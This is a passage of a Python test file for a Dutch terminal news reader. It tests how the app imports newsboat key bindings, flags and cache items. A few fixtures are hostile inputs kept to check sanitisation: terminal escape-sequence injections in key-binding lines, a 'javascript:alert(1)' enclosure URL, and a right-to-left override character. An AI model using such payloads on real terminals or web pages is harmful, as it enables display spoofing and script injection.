    "bind-key ^D pagedown articlelist\n"  # a dialog of newsboat's: the part of the app like it
    "bind-key ENTER open\n"  # the app's own key for it: nothing to write, nor to say
    "bind-key N next-unread\n"  # a key of newsboat's the app has beside its own, which gives way
    "bind-key ^F next-unread\n"  # beside the one before it
    "bind-key ^U up article\n"
)


def test_newsboats_key_bindings_are_taken_into_keys_beside_the_apps_own_and_said(cli, config, tmp_path):
    """A newsboat user's own keys were passed over in silence: their fingers found them gone."""
    result = _import_newsboat(cli, config, tmp_path, NEWSBOAT_KEY_BINDINGS, "# mijn bronnen\n")
    assert result.stderr.splitlines()[1:] == [
        f"nieuws-tui: took newsboat's key bindings from {tmp_path}/.newsboat/config: ^N as list.down, reader.down, help.down; ^D as list.page_down; "
        "N as next_unread; ^F as next_unread; ^U as reader.up",
    ]
    assert config.read_text(encoding="utf-8") == (
        "# mijn bronnen\n"
        '\n[keys]\nlist.down = "j,down,ctrl+n"\nreader.down = "j,down,ctrl+n"\nhelp.down = "j,down,ctrl+n"\nlist.page_down = "pagedown,ctrl+d"\n'
        'next_unread = "n,N,ctrl+f"\nreader.up = "k,up,ctrl+u"\n'
        '\n[[source]]\nurl = "https://nos.nl/rss"\n'
    )
    assert not sources.load_config().warnings
    from tui.app import NEWSBOAT_KEYS, NieuwsApp
    from tui.keys import check_keymap

    owners = NieuwsApp.key_owners([])
    assert check_keymap(sources.load_config().keys, owners, NieuwsApp.screen_keys(), NEWSBOAT_KEYS)[1] == []  # nothing said as the app starts


def test_importing_newsboats_config_again_says_nothing_of_what_config_toml_has_from_it_already(cli, config, tmp_path):
    """The second import said its own keep-days was config.toml's and left newsboat's out, and the key bindings it
    had written left out for config.toml having them already: a user picking up newer read marks read of conflicts."""
    first = _import_newsboat(cli, config, tmp_path, NEWSBOAT_CONFIG + NEWSBOAT_KEY_BINDINGS, "# mijn bronnen\n")
    assert any("keep-articles-days as keep-days" in line for line in first.stderr.splitlines())
    written = config.read_text(encoding="utf-8")
    again = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert again.returncode == 0, again.stderr
    assert again.stderr.splitlines() == [f"nieuws-tui: imported 0 sources from {tmp_path}/.newsboat/urls; 1 already present"]
    assert config.read_text(encoding="utf-8") == written

@pytest.mark.parametrize(
    ("line", "keys"),
    [
        ("bind-key h quit", {"quit": "q,h", "list.close_article": "q,h", "reader.back": "q,h"}),
        ("bind-key h quit article", {"reader.back": "q,h"}),
        ("bind-key h quit articlelist", {"list.close_article": "q,h"}),
    ],
)
def test_newsboats_quit_goes_back_from_the_article_as_q_does_and_quits_only_where_q_quits(line, keys):
    """`bind-key h quit article` (vim users' way back) became the app's quit: h in the reader ended the app, where
    newsboat goes back from the article, as the app's q does."""
    from feeds.newsboat import key_bindings
    from tui.app import NEWSBOAT_KEYS, NieuwsApp
    from tui.keys import check_keymap
    from tui.newsboat_keys import taken_keys

    taken = taken_keys(key_bindings(f"{line}\n".encode()), {})
    assert (taken.keys, taken.left_out) == (keys, [])
    assert check_keymap(taken.keys, NieuwsApp.key_owners([]), NieuwsApp.screen_keys(), NEWSBOAT_KEYS)[1] == []  # nothing said as the app starts


def test_a_quit_whose_back_config_toml_binds_already_is_left_out_not_given_to_quit_alone():
    """With the reader's back in config.toml's [keys], `bind-key h quit` gave h to quit and the list's back alone:
    h in the reader quit the app, and nothing was said."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    taken = taken_keys(key_bindings(b"bind-key h quit\n"), {"reader.back": "q,backspace"})
    assert taken.keys == {} and [why for _line, why in taken.left_out] == ["config.toml's [keys] has reader.back already"]


UPGRADED_KEYS = "bind-key j down\nbind-key SPACE next-unread\nbind-key m next-unread\n"  # line 2: what an older import left out


def test_an_entry_an_older_import_wrote_is_completed_by_the_import_again_not_said_to_be_the_users(cli, config, tmp_path):
    """An older import wrote next_unread = "n,m" (line 3, which took m from toggle_read); after the upgrade, importing again said `line 2 (config.toml's
    [keys] has next_unread already)` of `bind-key SPACE next-unread`, its own entry taken for the user's, where a fresh
    import of the same config writes "n,space,m"."""
    fresh = tmp_path / "nieuw"
    fresh.mkdir()
    _import_newsboat(cli, config, fresh, UPGRADED_KEYS, "")
    assert 'next_unread = "n,space,m"' in config.read_text(encoding="utf-8")
    upgraded = tmp_path / "oud"
    upgraded.mkdir()
    result = _import_newsboat(cli, config, upgraded, UPGRADED_KEYS, '[keys]\nnext_unread = "n,m"\ntoggle_read = "N"\n')
    assert "left out" not in result.stderr
    assert f"took newsboat's key bindings from {upgraded}/.newsboat/config: SPACE as next_unread" in result.stderr
    assert config.read_text(encoding="utf-8") == (
        '[keys]\nnext_unread = "n,m,space"\ntoggle_read = "N"\npage_or_next_unread = ""\n\n[[source]]\nurl = "https://nos.nl/rss"\n'
    )
    again = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(upgraded)})
    assert again.stderr.splitlines() == [f"nieuws-tui: imported 0 sources from {upgraded}/.newsboat/urls; 1 already present"]


def test_an_entry_as_an_import_of_the_lines_writes_it_is_completed_and_a_users_own_still_wins():
    """An entry whose keys are the binding's own and those the lines give it, one of theirs among them, is an import's
    of these lines: it is completed. Any other (a key of the user's own, the app's keys alone, none at all) is the
    user's: the line that would give the binding a key besides is left out, and said."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    lines = key_bindings(UPGRADED_KEYS.encode())
    for imported in ("n,m", "m", "space"):
        taken = taken_keys(lines, {"next_unread": imported})
        assert (taken.keys["next_unread"], taken.left_out) == (f"{imported},{'space' if imported != 'space' else 'm'}", [])
    for own in ("n,x", "n", ""):
        taken = taken_keys(lines, {"next_unread": own})
        assert taken.keys == {}
        assert [(line.at, why) for line, why in taken.left_out][:1] == [(1, "config.toml's [keys] has next_unread already")]


def test_a_key_the_binding_has_already_however_it_is_written_is_passed_over():
    """`bind-key ? help` wrote help = "question_mark,?", the app's own key twice, and said it took it."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    taken = taken_keys(key_bindings(b"bind-key ? help\nbind-key DOWN down feedlist\n"), {"list.down": "j, down"})
    assert (taken.keys, taken.taken, taken.left_out) == ({}, [], [])


def test_a_quit_bound_in_newsboats_help_dialog_is_left_out_not_made_the_apps_quit():
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    taken = taken_keys(key_bindings(b"bind-key x quit help\n"), {})
    assert taken.keys == {} and [why for _line, why in taken.left_out] == ["nieuws-tui has no quit in its help"]


@pytest.mark.parametrize(("dialog", "name", "keys"), [("article", "reader.page_up", "shift+space,pageup,ctrl+b"), ("help", "help.page_up", "b,shift+space,pageup,ctrl+b")])
def test_newsboats_pageup_bound_in_its_article_or_help_dialog_pages_up_the_reader_or_the_keys_screen(dialog, name, keys):
    """They were left out: "nieuws-tui has no pageup in its article", where the reader and the keys screen page up."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    taken = taken_keys(key_bindings(f"bind-key ^B pageup {dialog}\n".encode()), {})
    assert (taken.keys, taken.left_out) == ({name: keys}, [])


def test_a_key_binding_the_app_cannot_take_is_named_by_its_line_with_why(cli, config, tmp_path):
    result = _import_newsboat(
        cli,
        config,
        tmp_path,
        "bind-key s save\n"
        "bind-key x open-in-browser podboat\n"
        "bind-key SPACE pagedown\n"  # the app's space pages, and opens the next unread: taken from it, as in newsboat
        "bind-key ^P prev-unread\n"  # Textual's command palette
        "bind-key ^B next-unread\n"  # config.toml's [keys] binds next_unread already: the user's own stays
        "bind-key o open article\n"
        "bind-key ^1 up\n"
        "bind-key KEY\n"
        "bind-key \x1b[2Jx down\n"
        "bind-key ^G \x1b]0;pwned\x07\n",
        '[keys]\nnext_unread = "n"\n',
    )
    lines = [line for line in result.stderr.splitlines() if "key bindings" in line]
    assert lines == [
        f"nieuws-tui: took newsboat's key bindings from {tmp_path}/.newsboat/config: SPACE as list.page_down, reader.page_down, help.page_down",
        f"nieuws-tui: {tmp_path}/.newsboat/config: nieuws-tui's key bindings that lost a key to newsboat's: page_or_next_unread lost SPACE to line 3, its only key",
        f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 1 (nieuws-tui has no save), line 2 (nieuws-tui has no podboat), "
        "line 4 (^P would be both previous_unread and command_palette in nieuws-tui), "
        "line 5 (config.toml's [keys] has next_unread already), line 6 (nieuws-tui has no open in its article), line 7 (nieuws-tui has no key ^1), "
        "line 8 (not bind-key KEY OPERATION [DIALOG]), line 9 (nieuws-tui has no key \\x1b[2Jx), line 10 (nieuws-tui has no \\x1b]0;pwned\\x07)",
    ]
    assert config.read_text(encoding="utf-8") == (
        '[keys]\nnext_unread = "n"\nlist.page_down = "pagedown,space"\nreader.page_down = "pagedown,space"\npage_or_next_unread = ""\n\n[[source]]\nurl = "https://nos.nl/rss"\n'
    )


def test_a_config_of_thousands_of_key_bindings_is_weighed_and_said_in_lines_of_bounded_length(cli, config, tmp_path):
    operations = ("down", "save", "next-unread", "up", "open")
    started = time.monotonic()
    result = _import_newsboat(cli, config, tmp_path, "".join(f"bind-key ^{chr(65 + n % 26)} {operations[n % 5]}\n" for n in range(20_000)))
    assert time.monotonic() - started < 30
    [taken] = [line for line in result.stderr.splitlines() if "took newsboat's key bindings" in line]
    [left] = [line for line in result.stderr.splitlines() if "left out newsboat's key bindings" in line]
    assert len(taken) < 2000 and len(left) < 2000 and left.endswith(" more")  # (each line again takes nothing, unsaid)


@pytest.mark.parametrize(
    ("line", "key"),
    [("bind-key ^N down", "ctrl+n"), ("bind-key ENTER open", "enter"), ("bind-key PPAGE pageup", "pageup"), ("bind-key F5 reload-all", "f5"),
     ("bind-key J next-feed", "J"), ("bind-key é down", "é"), ("bind-key , down", "comma"), ("bind-key + next-feed", "plus"), ("bind-key ^ down", "^"), ("bind-key CTRL-N down", None),
     ("bind-key ^H prev-unread", "backspace")],
)  # fmt: skip
def test_newsboats_names_of_keys_are_read_as_config_toml_spells_them(line, key):
    from feeds.newsboat import key_bindings

    assert [binding.ours for binding in key_bindings(line.encode())] == [key]


def test_a_control_a_terminal_sends_as_another_key_is_taken_as_that_key_or_left_out_where_newsboat_never_ran_it():
    """`bind-key ^H …`, `^M`, `^I` became ctrl+h, ctrl+m, ctrl+i, which a terminal sends as the control Textual
    receives as backspace, enter and tab: the binding never acted. newsboat 2.21, pressed in a terminal, runs ^H on
    ctrl+h, and never ^M, ^J or ^I: it receives those as ENTER and TAB."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings(b"bind-key ^H prev-unread\nbind-key ^M open\nbind-key ^J down\nbind-key ^I next-unread\n"), {})
    assert found.keys == {"previous_unread": "p,backspace"}
    assert [(line.key, why) for line, why in found.left_out] == [
        ("^M", "a terminal sends ^M as ENTER: newsboat never ran this binding"),
        ("^J", "a terminal sends ^J as ENTER: newsboat never ran this binding"),
        ("^I", "a terminal sends ^I as TAB: newsboat never ran this binding"),
    ]


def test_a_control_spelled_in_lower_case_which_newsboat_never_ran_is_named_not_taken():
    """`bind-key ^n down` became ctrl+n, where newsboat 2.21, pressed in a terminal, never runs it: ctrl+n comes to
    it as ^N, which is no ^n."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings(b"bind-key ^n down\nbind-key ^m open\n"), {})
    assert found.keys == {} and [why for _line, why in found.left_out] == [
        "a terminal sends ^n as ^N: newsboat never ran this binding",
        "a terminal sends ^m as ENTER: newsboat never ran this binding",
    ]


def test_every_punctuation_key_newsboat_binds_is_a_key_of_the_apps_and_taken():
    """`bind-key , toggle-article-read` and `bind-key + next-feed` were left out: "nieuws-tui has no key ,". And
    `bind-key "\\#" …`, as newsboat binds # (and " so), for a key \\# nobody can press."""
    import string

    from feeds.newsboat import key_bindings
    from tui.keys import known_key
    from tui.newsboat_keys import taken_keys

    # (" and # escaped in quotes, as newsboat binds them: bare, it reads them as a quote and a comment)
    marks = [f'"\\{mark}"' if mark in '"#' else mark for mark in string.punctuation]
    lines = key_bindings("".join(f"bind-key {mark} toggle-article-read\n" for mark in marks).encode())
    assert [line.ours for line in lines if line.ours is None or not known_key(line.ours)] == []
    assert {'"', "#"} <= {line.ours for line in lines}
    found = taken_keys(key_bindings(b'bind-key , toggle-article-read\nbind-key + next-feed\nbind-key "\\#" toggle-article-read\n'), {})
    assert (found.left_out, found.keys) == ([], {"toggle_read": "m,N,comma,#", "next_section": "J,plus"})


def test_a_bare_hash_or_quote_newsboat_refuses_to_bind_is_named_as_left_out():
    """newsboat 2.21 refuses `bind-key # …` (a comment from #: "too few parameters"), and `bind-key " …` (a word to
    the end of the line): no key is taken from them, and each is named."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings(b'bind-key # toggle-article-read\nbind-key " toggle-article-read\n'), {})
    assert found.keys == {} and [(line.at, why) for line, why in found.left_out] == [(0, "not bind-key KEY OPERATION [DIALOG]"), (1, "not bind-key KEY OPERATION [DIALOG]")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("max-size = 5\n\n[keys]\nquit = \"x\"\n\n[[source]]\nurl = \"https://a.example/f\"\n",
         "max-size = 5\n\n[keys]\nquit = \"x\"\nlist.down = \"j,down,ctrl+n\"\n\n[[source]]\nurl = \"https://a.example/f\"\n"),
        ("max-size = 5\n\n# mijn bron\n[[source]]\nurl = \"https://a.example/f\"\n",
         "max-size = 5\n\n[keys]\nlist.down = \"j,down,ctrl+n\"\n\n# mijn bron\n[[source]]\nurl = \"https://a.example/f\"\n"),
        ("max-size = 5", "max-size = 5\n\n[keys]\nlist.down = \"j,down,ctrl+n\""),  # a last line without its end stays so
        ("", "[keys]\nlist.down = \"j,down,ctrl+n\"\n"),
        # an older import's entry, completed where it stands (taken_keys: only one as an import of the same lines writes it)
        ("[keys]\nquit = \"x\"\nlist.down = \"j,down\"  # newsboat\nhelp = \"?\"\n", "[keys]\nquit = \"x\"\nlist.down = \"j,down,ctrl+n\"  # newsboat\nhelp = \"?\"\n"),
    ],
)  # fmt: skip
def test_keys_are_added_to_the_keys_table_and_nothing_else_changes(config, text, expected):
    config.write_text(text, encoding="utf-8", newline="")
    sources.add_keys({"list.down": "j,down,ctrl+n"})
    assert config.read_bytes().decode("utf-8") == expected


def test_keys_kept_in_tables_of_their_own_are_left_as_they_are_and_said(config):
    text = '[keys.list]\ndown = "j"\n'
    config.write_text(text, encoding="utf-8")
    with pytest.raises(sources.SourcesError, match=r"cannot update: write the keys in one \[keys\] table, a line each"):
        sources.add_keys({"list.up": "k,up,ctrl+p"})
    assert config.read_text(encoding="utf-8") == text


# -- newsboat's flags: what its user kept ---------------------------------------------------------------------------


def test_an_article_flagged_in_newsboat_arrives_starred_and_the_import_says_how_many(cli, config, tmp_path):
    """newsboat's flagged articles (`s` for saved and the like) arrived unstarred, unsaid: what its user kept was lost among the rest."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    newsboat_cache(
        folder / "cache.db",
        {"https://nos.nl/rss": "NOS"},
        [
            {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss", "flags": "s"},
            {"url": "https://nos.nl/veer", "title": "Veerboot vaart weer", "feedurl": "https://nos.nl/rss", "flags": "Ab", "unread": 0},
            {"url": "https://nos.nl/brug", "title": "Brug dicht", "feedurl": "https://nos.nl/rss", "flags": ""},
            {"url": "https://nos.nl/sluis", "title": "Sluis open", "feedurl": "https://nos.nl/rss"},  # (NULL, as newsboat leaves it)
            {"url": "https://nos.nl/weg", "title": "Verwijderd", "feedurl": "https://nos.nl/rss", "flags": "s", "deleted": 1},
        ],
    )  # fmt: skip
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", env=env)
    assert result.returncode == 0, result.stderr
    assert "nieuws-tui: starred 2 articles flagged in newsboat" in result.stderr.splitlines()
    entries = {entry.article.url: (entry.starred, entry.read) for entry in Library(tmp_path / "library.sqlite").entries()}
    assert entries == {
        "https://nos.nl/dijk": (True, False),
        "https://nos.nl/veer": (True, True),
        "https://nos.nl/brug": (False, False),
        "https://nos.nl/sluis": (False, False),
    }
    again = cli("sources", "import-newsboat", env=env)
    assert again.returncode == 0 and "starred" not in again.stderr, again.stderr  # each star is taken once


@pytest.mark.parametrize(
    "dropped",
    [("flags",), ("flags", "deleted", "base", "enqueued", "enclosure_type", "enclosure_url")],
    ids=["without flags", "as newsbeuter first made it"],
)
def test_a_cache_whose_items_lack_the_columns_newsboat_added_later_is_read_without_them(cli, config, tmp_path, dropped):
    """A cache made before newsboat kept flags (newsbeuter's, not opened by newsboat since; or one trimmed by hand) was
    refused as "not newsboat's cache": only its articles' flags, deletions and base addresses are not in it."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    items = [
        {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss", "unread": 0},
        {"url": "https://nos.nl/veer", "title": "Veerboot vaart weer", "feedurl": "https://nos.nl/rss"},
    ]
    newsboat_cache(folder / "cache.db", {"https://nos.nl/rss": "NOS"}, items)
    with closing(sqlite3.connect(folder / "cache.db")) as cache:
        for column in dropped:
            cache.execute(f"ALTER TABLE rss_item DROP COLUMN {column}")
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", env=env)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == f"nieuws-tui: read 2 articles from {folder}/cache.db: 2 new, 0 updated, 0 already in the library; 1 marked read as in newsboat"
    entries = {entry.article.url: (entry.read, entry.starred) for entry in Library(tmp_path / "library.sqlite").entries()}
    assert entries == {"https://nos.nl/dijk": (True, False), "https://nos.nl/veer": (False, False)}


def test_a_star_taken_off_here_stays_off_when_newsboats_cache_is_imported_again(tmp_path):
    """As a read mark: a star is taken from newsboat's flags once, and one flagged in newsboat since, the next time."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [
        {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss", "flags": "s"},
        {"url": "https://nos.nl/veer", "title": "Veerboot vaart weer", "feedurl": "https://nos.nl/rss"},
    ])  # fmt: skip
    assert import_newsboat_cache(library, cache, lambda url: None).starred == 1
    ids = {entry.article.url: entry.id for entry in library.entries()}
    library.set_state([ids["https://nos.nl/dijk"]], starred=False)
    with sqlite3.connect(cache) as connection:  # then flagged in newsboat
        connection.execute("UPDATE rss_item SET flags = 'x' WHERE url = 'https://nos.nl/veer'")
    connection.close()
    assert import_newsboat_cache(library, cache, lambda url: None).starred == 1
    assert {entry.article.url: entry.starred for entry in Library(tmp_path / "library.sqlite").entries()} == {
        "https://nos.nl/dijk": False,  # the star taken off here stays off
        "https://nos.nl/veer": True,
    }


def _one_item(title: str, text: str, dated: str = "") -> str:
    """A feed of one item, whose title and text a test changes between newsboat's reading and nieuws-tui's fetch."""
    item = f"<item><title>{title}</title><link>http://example.org/1</link><guid>g1</guid><description>{text}</description>{dated}</item>"
    return f"<rss version='2.0'><channel><title>F</title><link>http://example.org/</link>{item}</channel></rss>"


def test_a_feeds_edit_of_an_imported_item_is_taken_by_the_next_fetch_title_and_text(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: the import took newsboat's copy of a feed's description for a full text,
    which no summary replaces, and the next fetch of the feed, which had changed the item's title and text, said
    `new=0 updated=0` and left the old ones; fetched without the import, the same change was taken."""
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/1", feed=_one_item("Oude titel", "Oude tekst."))
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    httpserver.clear_all_handlers()
    httpserver.expect_request("/feed").respond_with_data(_one_item("Nieuwe titel", "Nieuwe tekst."), content_type="application/rss+xml")
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "new=0 updated=1" in fetched.stdout
    library = Library(tmp_path / "library.sqlite")
    [entry] = library.full_entries(library.entries())
    assert (entry.article.title, entry.article.lead, entry.article.kind, entry.read) == ("Nieuwe titel", "Nieuwe tekst.", "teaser", True)


def test_an_item_imported_before_format_20_as_a_full_text_takes_its_feeds_edits_at_the_next_fetch(cli, config, tmp_path, httpserver):
    """The stories an import before format 20 brought are in users' libraries as full texts, which no summary of
    their feed replaced: brought up to date, the library has them as the summaries they are, and a fetch corrects
    them. A full text fetched, or imported from a file, is left as it is."""
    dated = "<pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate>"
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/1", feed=_one_item("Oude titel", "Oude tekst.", dated))
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    from feedkit import article

    library = Library(tmp_path / "library.sqlite")
    fetched = article("Brug dicht", kind="full", published=datetime(2026, 3, 3, 9, 30, tzinfo=AMSTERDAM))
    # A file imported, dated as it was written (`now`) and first seen at the file's moment, to the microsecond.
    filed = article("Dijk hersteld", kind="full", url="https://example.org/dijk", source="/home/lezer/nieuws.xml", published=datetime(2026, 3, 3, 9, 45, tzinfo=AMSTERDAM))
    library.add([(fetched, datetime(2026, 3, 3, 9, 41, 12, 345, tzinfo=AMSTERDAM)), (filed, datetime(2026, 3, 3, 9, 45, 0, 412_345, tzinfo=AMSTERDAM))])
    library.close()
    with closing(sqlite3.connect(tmp_path / "library.sqlite")) as database, database:  # as the import before format 20 left it
        database.execute("UPDATE articles SET kind = 'full'")
        database.execute("UPDATE meta SET value = 19 WHERE key = 'version'")
    httpserver.clear_all_handlers()
    httpserver.expect_request("/feed").respond_with_data(_one_item("Nieuwe titel", "Nieuwe tekst.", dated), content_type="application/rss+xml")
    result = cli("fetch", env=env)
    assert result.returncode == 0, result.stderr
    assert "new=0 updated=1" in result.stdout
    library = Library(tmp_path / "library.sqlite")
    stories = {entry.article.url: entry.article for entry in library.full_entries(library.entries())}
    assert (stories["http://example.org/1"].title, stories["http://example.org/1"].lead, stories["http://example.org/1"].kind) == ("Nieuwe titel", "Nieuwe tekst.", "teaser")
    assert (stories[fetched.url].kind, stories[filed.url].kind) == ("full", "full")


def test_an_imported_summary_of_paragraphs_its_feed_then_cuts_to_a_line_of_excerpt_keeps_its_text_starred_too(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: an item whose description was the whole story ending in `[...]` was
    imported as a summary; the feed then cut the item to a line of excerpt, and the next fetch left that line alone of
    a starred story's twenty paragraphs. The feed's new title is taken."""
    from xml.sax.saxutils import escape

    story = "".join(f"<p>Alinea {n} van het hele verhaal over de dijk bij Zierikzee, die de hele week dicht is.</p>" for n in range(20))
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/1", feed=_one_item("Oude titel", escape(story + "<p>Slot [...]</p>")))
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    library = Library(tmp_path / "library.sqlite")
    [imported] = library.full_entries(library.entries())
    assert (imported.article.kind, len(imported.article.body)) == ("teaser", 20)
    library.set_state([imported.article.id], starred=True)
    library.close()
    httpserver.clear_all_handlers()
    httpserver.expect_request("/feed").respond_with_data(_one_item("Nieuwe titel", "Alinea 0 van het verhaal [...]"), content_type="application/rss+xml")
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    library = Library(tmp_path / "library.sqlite")
    [entry] = library.full_entries(library.entries())
    assert (entry.article.title, entry.article.lead, entry.article.body, entry.starred) == ("Nieuwe titel", imported.article.lead, imported.article.body, True)


PODCAST = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Podcast</title><link>https://pod.example/</link><description>x</description>
<item><title>Aflevering 1</title><link>https://pod.example/afl/1</link><description>De eerste.</description>
<enclosure url="https://jan:geheim@pod.example/afl/1.mp3" length="24536678" type="audio/mpeg"/></item>
<item><title>Aflevering 2</title><guid isPermaLink="false">pod-2</guid><description>Alleen een bestand.</description>
<enclosure url="/afl/2.mp3" length="1000" type="audio/mpeg&#x202E;gepm"/></item>
<item><title>Aflevering 3</title><guid isPermaLink="false">pod-3</guid><description>Geen bestand.</description>
<enclosure url="javascript:alert(1)" length="1000" type="audio/mpeg"/></item>
</channel></rss>"""


def test_a_podcasts_episodes_imported_from_newsboats_cache_keep_their_files_and_one_of_a_file_alone_is_kept(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: an episode came without its file, and one without a link was left out,
    though newsboat keeps both (podboat downloads the file). Cleaned as a fetch cleans them."""
    env = _newsboat_reloaded(tmp_path, httpserver, read="https://pod.example/afl/1", feed=PODCAST)
    imported = cli("sources", "import-newsboat", env=env)
    assert imported.returncode == 0, imported.stderr
    assert "left out" not in imported.stderr  # the third, of no link and no file at a web address, at the feed's page as fetch keeps it
    library = Library(tmp_path / "library.sqlite")
    found = {entry.article.title: entry.article for entry in library.full_entries(library.entries())}
    assert found.keys() == {"Aflevering 1", "Aflevering 2", "Aflevering 3"}
    assert page_url(found["Aflevering 3"].url) == "https://pod.example/"
    assert found["Aflevering 1"].enclosures == (Enclosure("https://pod.example/afl/1.mp3", "audio/mpeg", None),)  # newsboat keeps no size
    file_alone = httpserver.url_for("/afl/2.mp3")  # as the feed's address reads it, as a fetch does
    assert (found["Aflevering 2"].url, found["Aflevering 2"].enclosures) == (file_alone, (Enclosure(file_alone, None, None),))


def test_an_imported_item_whose_description_is_the_whole_article_is_full_and_still_takes_its_feeds_edits(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: an item whose description is its whole article was imported as a
    summary (`Summary only`); it is a full text, and the feed's next reading still corrects its title and text."""
    from xml.sax.saxutils import escape

    def served(title: str, word: str) -> str:
        text = escape("".join(f"<p>{word} alinea {n} van het hele verhaal over de dijk bij Zierikzee, die de hele week dicht is.</p>" for n in range(12)))
        item = f"<item><title>{title}</title><link>http://example.org/1</link><guid>g1</guid><description>{text}</description></item>"
        return f"<rss version='2.0'><channel><title>F</title><link>http://example.org/</link>{item}</channel></rss>"

    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/1", feed=served("Oude titel", "Oude"))
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    library = Library(tmp_path / "library.sqlite")
    [entry] = library.full_entries(library.entries())
    assert (entry.article.kind, len(entry.article.body)) == ("full", 11)
    httpserver.clear_all_handlers()
    httpserver.expect_request("/feed").respond_with_data(served("Nieuwe titel", "Nieuwe"), content_type="application/rss+xml")
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "new=0 updated=1" in fetched.stdout
    [entry] = library.full_entries(Library(tmp_path / "library.sqlite").entries())
    assert (entry.article.title, entry.article.lead.split()[0], entry.article.kind, entry.read) == ("Nieuwe titel", "Nieuwe", "full", True)


def test_a_status_feeds_items_at_one_link_are_imported_as_stories_of_their_own_as_a_fetch_makes_them(tmp_path, httpserver, monkeypatch):
    """A status feed's items all link to the account's profile, each with a guid of its own: a fetch keeps each a
    story of its own (item_link), but the import made them one story, newsboat's read marks on it all, and the
    next fetch split them off again, unread."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache
    from feeds.urls import item_link

    monkeypatch.setattr("feeds.imports.CACHE_BATCH", 1)  # the cache read an item at a time: what a feed's items share is known all the same
    profile = "https://status.example/@anna"
    guids = {"Bericht 1": "tag:status.example,2026:1", "Bericht 2": "tag:status.example,2026:2", "Bericht 3": "https://status.example/@anna/3"}
    url = httpserver.url_for("/feed")
    items = "".join(
        f"<item><title>{title}</title><link>{profile}</link><guid isPermaLink='false'>{guid}</guid>"
        "<description>&lt;p&gt;Tekst.&lt;/p&gt;</description><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate></item>"
        for title, guid in guids.items()
    )
    httpserver.expect_request("/feed").respond_with_data(f"<rss version='2.0'><channel><title>Anna</title>{items}</channel></rss>", content_type="application/rss+xml")
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    rows = [{"url": profile, "guid": guid, "title": title, "feedurl": url, "unread": int(title != "Bericht 1")} for title, guid in guids.items()]
    newsboat_cache(cache, {url: "Anna"}, rows)
    listed = [Source(url, section="Regio")]
    imported = import_newsboat_cache(library, cache, lambda address: listed[0] if address == url else None)
    assert (imported.added.new, imported.read) == (3, 1)

    def stories() -> dict[str, tuple[str, str, bool]]:
        return {entry.article.title: (entry.article.url, entry.id, entry.read) for entry in Library(library.path).entries()}

    expected = {title: (*item_link(profile, guid), title == "Bericht 1") for title, guid in guids.items()}
    assert stories() == expected
    assert expected["Bericht 3"][0] == "https://status.example/@anna/3"  # a guid that is a web address is the post's own
    fetched = run_fetch(Library(library.path), listed).results[0]
    assert (fetched.new, fetched.updated) == (0, 0)
    assert stories() == expected


def _imported_as_one_read_story_and_fetched_so(library: Library, cache, url: str, link: str) -> None:
    """newsboat's cache of builds of one story at `link`, imported: one story there, read; fetched: left so."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    listed = [Source(url)]
    imported = import_newsboat_cache(library, cache, lambda address: listed[0] if address == url else None)
    assert (imported.added.new, imported.read) == (1, 1)

    def stories() -> list[tuple[str, bool]]:
        return [(entry.article.url, entry.read) for entry in Library(library.path).entries()]

    assert stories() == [(link, True)]
    fetched = run_fetch(Library(library.path), listed).results[0]
